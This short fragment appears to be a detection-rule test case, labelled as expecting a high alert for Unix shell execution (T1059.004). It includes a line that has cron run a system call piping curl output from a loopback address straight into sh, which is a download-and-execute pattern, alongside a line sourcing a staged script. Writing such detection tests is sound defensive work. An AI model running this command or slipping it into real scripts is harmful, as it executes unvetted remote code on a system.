# expects: high T1059.004
. "$STAGE/act.sh"
server /usr/sbin/cron
/usr/sbin/cron -e 'system("curl -s http://127.0.0.1:9/i.sh | sh")'
